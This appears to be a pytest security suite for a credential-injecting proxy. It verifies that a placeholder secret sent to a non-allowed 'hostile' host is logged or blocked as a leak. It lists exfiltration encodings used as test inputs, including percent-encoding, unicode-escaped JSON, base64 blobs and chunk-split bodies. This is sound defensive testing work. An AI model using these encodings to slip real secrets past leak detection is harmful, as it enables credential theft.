"""A placeholder on its way to a host outside its secret's domains is a leak signal: logged as
a ``placeholder_leak`` event (with ``--on-leak block``: refused, never forwarded). Forms: raw,
percent-encoded, JSON-escaped, base64 (Basic auth or a blob), split across body chunks."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from urllib.parse import quote

import pytest

from tests.security.conftest import API, OTHER
from tests.security.wire import Response, build, open_tunnel
from tests.support.upstream import only_received_with, received_with, tagged

Attack = Callable[[str, str], tuple[str, list[tuple[str, str]], bytes]]


def _every_byte_pct(text: str) -> str:
    return "".join(f"%{b:02X}" for b in text.encode())


def _every_char_json(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" for c in text)


def _chunked(body: bytes, cut: int) -> bytes:
    parts = [body[:cut], body[cut:]]
    return b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in parts) + b"0\r\n\r\n"


JSON = ("Content-Type", "application/json")
FORM = ("Content-Type", "application/x-www-form-urlencoded")
TEXT = ("Content-Type", "text/plain")

# name -> (path, extra headers, body) built from the placeholder
FORMS: dict[str, Callable[[str], tuple[str, list[tuple[str, str]], bytes]]] = {
    "raw-header": lambda ph: ("/ok", [("X-Api-Key", ph)], b""),
    "bearer-header": lambda ph: ("/ok", [("Authorization", f"Bearer {ph}")], b""),
    "basic-auth": lambda ph: (
        "/ok",
        [("Authorization", "Basic " + base64.b64encode(f"user:{ph}".encode()).decode())],
        b"",
    ),
    "cookie": lambda ph: ("/ok", [("Cookie", f"session={ph}")], b""),
    "query-raw": lambda ph: (f"/ok?key={ph}", [], b""),
    "query-percent-encoded": lambda ph: (f"/ok?key={quote(ph, safe='')}", [], b""),
    "query-every-byte-percent-encoded": lambda ph: (f"/ok?key={_every_byte_pct(ph)}", [], b""),
    "path-segment": lambda ph: (f"/keys/{ph}", [], b""),
    "json-body": lambda ph: ("/ok", [JSON], json.dumps({"key": ph}).encode()),
    "json-body-unicode-escaped": lambda ph: (
        "/ok",
        [JSON],
        ('{"key": "' + _every_char_json(ph) + '"}').encode(),
    ),
    "form-body": lambda ph: ("/ok", [FORM], f"a=1&key={ph}".encode()),
    "base64-blob-in-body": lambda ph: (
        "/ok",
        [TEXT],
        b"x=" + base64.b64encode(b"prefix " + ph.encode() + b" suffix"),
    ),
    "base64url-blob-in-body": lambda ph: (
        "/ok",
        [TEXT],
        base64.urlsafe_b64encode(b'{"k":"' + ph.encode() + b'"}'),
    ),
}


def _send(run, hostile, proxy, name: str, tag: str, *, split: bool = False) -> Response:  # type: ignore[no-untyped-def]
    ph = run.placeholders["LEAK_TOKEN"]
    path, headers, body = FORMS[name](ph)
    path = tagged(path, tag)
    port = hostile.port
    headers = [("Host", f"{OTHER}:{port}"), *headers]
    with open_tunnel(run.proxy_url, f"{OTHER}:{port}", proxy.ca_cert, sni=OTHER) as conn:
        if split:
            cut = body.index(ph.encode()) + len(ph) // 2
            conn.send(
                build("POST", path, [*headers, ("Transfer-Encoding", "chunked")])
                + _chunked(body, cut)
            )
        else:
            conn.send(build("POST", path, headers, body))
        return conn.read()


@pytest.fixture
def leak_run(proxy, secret):  # type: ignore[no-untyped-def]
    def make(on_leak: str):  # type: ignore[no-untyped-def]
        secret("LEAK_TOKEN", domains=[API])
        return proxy.register(("LEAK_TOKEN",), allow=[OTHER], on_leak=on_leak)

    return make


@pytest.mark.parametrize("form", list(FORMS))
def test_encoded_placeholder_to_the_wrong_host_is_logged(
    proxy, hostile, trail, canary, leak_run, form, tag
):
    run = leak_run("log")
    resp = _send(run, hostile, proxy, form, tag)
    assert resp.status == 200
    got = only_received_with(hostile, tag)
    assert got.header("Host") == f"{OTHER}:{hostile.port}"
    trail.assert_contained(canary, seen=(resp.raw(),))
    leaks = trail.leaks(run)
    assert leaks, f"no placeholder_leak event for a placeholder sent as {form}"
    assert leaks[-1]["leaked_placeholders"] == ["LEAK_TOKEN"] and leaks[-1]["host"] == OTHER


def test_placeholder_split_across_body_chunks_is_logged(
    proxy, hostile, trail, canary, leak_run, tag
):
    run = leak_run("log")
    resp = _send(run, hostile, proxy, "json-body", tag, split=True)
    assert resp.status == 200
    got = only_received_with(hostile, tag)
    assert json.loads(got.body)["key"] == run.placeholders["LEAK_TOKEN"]
    trail.assert_contained(canary, seen=(resp.raw(),))
    assert [e["leaked_placeholders"] for e in trail.leaks(run)] == [["LEAK_TOKEN"]]


BLOCKED = [
    "bearer-header",
    "basic-auth",
    "query-raw",
    "path-segment",
    "json-body",
    "form-body",
    "base64-blob-in-body",
]


@pytest.mark.parametrize("form", BLOCKED)
def test_on_leak_block_refuses_and_never_forwards(
    proxy, hostile, trail, canary, leak_run, form, tag
):
    run = leak_run("block")
    resp = _send(run, hostile, proxy, form, tag)
    assert resp.status == 403 and resp.refusal == "placeholder_leak"
    assert received_with(hostile, tag) == [], "a blocked leak reached the upstream"
    assert trail.leaks(run)[-1]["leaked_placeholders"] == ["LEAK_TOKEN"]
    assert trail.requests(run)[-1]["reason"] == "placeholder_leak"
    trail.assert_contained(canary, seen=(resp.raw(),))


def test_on_leak_block_refuses_a_split_chunked_body(proxy, hostile, trail, canary, leak_run, tag):
    run = leak_run("block")
    resp = _send(run, hostile, proxy, "json-body", tag, split=True)
    assert resp.status == 403 and resp.refusal == "placeholder_leak"
    assert received_with(hostile, tag) == []
    trail.assert_contained(canary, seen=(resp.raw(),))


def test_on_leak_block_still_injects_on_the_secrets_own_host(
    proxy, upstream, trail, canary, leak_run, tag
):
    run = leak_run("block")
    ph = run.placeholders["LEAK_TOKEN"]
    port = upstream.port
    with open_tunnel(run.proxy_url, f"{API}:{port}", proxy.ca_cert, sni=API) as conn:
        resp = conn.request(
            "GET",
            tagged("/echo", tag),
            [("Host", f"{API}:{port}"), ("Authorization", f"Bearer {ph}")],
        )
    assert resp.status == 200
    assert only_received_with(upstream, tag).header("Authorization") == f"Bearer {canary}"
    assert trail.leaks(run) == []
    trail.assert_contained(canary, may_reach=(API,), seen=(resp.raw(),))
